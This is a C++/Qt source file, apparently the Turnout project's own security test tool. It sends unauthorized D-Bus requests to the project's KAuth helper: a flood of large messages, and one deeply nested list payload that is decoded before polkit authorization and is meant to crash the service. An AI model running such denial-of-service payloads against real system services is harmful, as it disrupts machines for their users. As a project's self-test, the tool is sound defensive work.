// SPDX-FileCopyrightText: 2026 The Turnout authors
// SPDX-License-Identifier: GPL-2.0-or-later

// Sends the helper what any local user can send without authorization.
//
//   bus-attack flood MESSAGES MEBIBYTES   requests of this size each, without waiting for replies
//   bus-attack nested DEPTH               one request with nested lists, which KAuth decodes before it asks polkit
//
// Exits with 0 if nested got an error, as from a service that crashed.

#include <QCoreApplication>
#include <QDBusConnection>
#include <QDBusMessage>
#include <QDBusMetaType>
#include <QDBusUnixFileDescriptor>
#include <QDataStream>
#include <QIODevice>

#include <cstdio>

namespace
{
QDBusMessage request(const QDBusConnection &bus, const QByteArray &arguments)
{
    QDBusMessage message = QDBusMessage::createMethodCall(QStringLiteral("org.turnout.helper"),
                                                          QStringLiteral("/"),
                                                          QStringLiteral("org.kde.kf6auth"),
                                                          QStringLiteral("performAction"));
    message.setArguments({QStringLiteral("org.turnout.helper.assign"),
                          bus.baseService().toUtf8(),
                          QVariantMap(),
                          arguments,
                          QVariant::fromValue(QMap<QString, QDBusUnixFileDescriptor>())});
    return message;
}

/// A QVariantMap with one member: lists of one element each, DEPTH of them.
QByteArray nested(int depth)
{
    QByteArray bytes;
    QDataStream stream(&bytes, QIODevice::WriteOnly);
    stream << quint32(1) << QStringLiteral("n");
    for (int i = 0; i < depth; ++i)
        stream << quint32(QMetaType::QVariantList) << qint8(0) << quint32(1);
    return bytes;
}
}

int main(int argc, char **argv)
{
    const QCoreApplication application(argc, argv);
    const QStringList words = QCoreApplication::arguments();
    qDBusRegisterMetaType<QMap<QString, QDBusUnixFileDescriptor>>();
    const QDBusConnection bus = QDBusConnection::systemBus();
    if (words.value(1) == QLatin1StringView("nested")) {
        const QDBusMessage reply = bus.call(request(bus, nested(words.value(2).toInt())), QDBus::Block, 60'000);
        std::puts(qPrintable(reply.errorMessage()));
        return reply.type() == QDBusMessage::ErrorMessage ? 0 : 1;
    }
    const QDBusMessage message = request(bus, QByteArray(words.value(3).toInt() << 20, 'x'));
    for (int i = 0; i < words.value(2).toInt(); ++i)
        bus.send(message);
    bus.call(QDBusMessage::createMethodCall(QStringLiteral("org.freedesktop.DBus"),
                                            QStringLiteral("/org/freedesktop/DBus"),
                                            QStringLiteral("org.freedesktop.DBus"),
                                            QStringLiteral("GetId")),
             QDBus::Block,
             60'000); // the bus has all of them
    return 0;
}
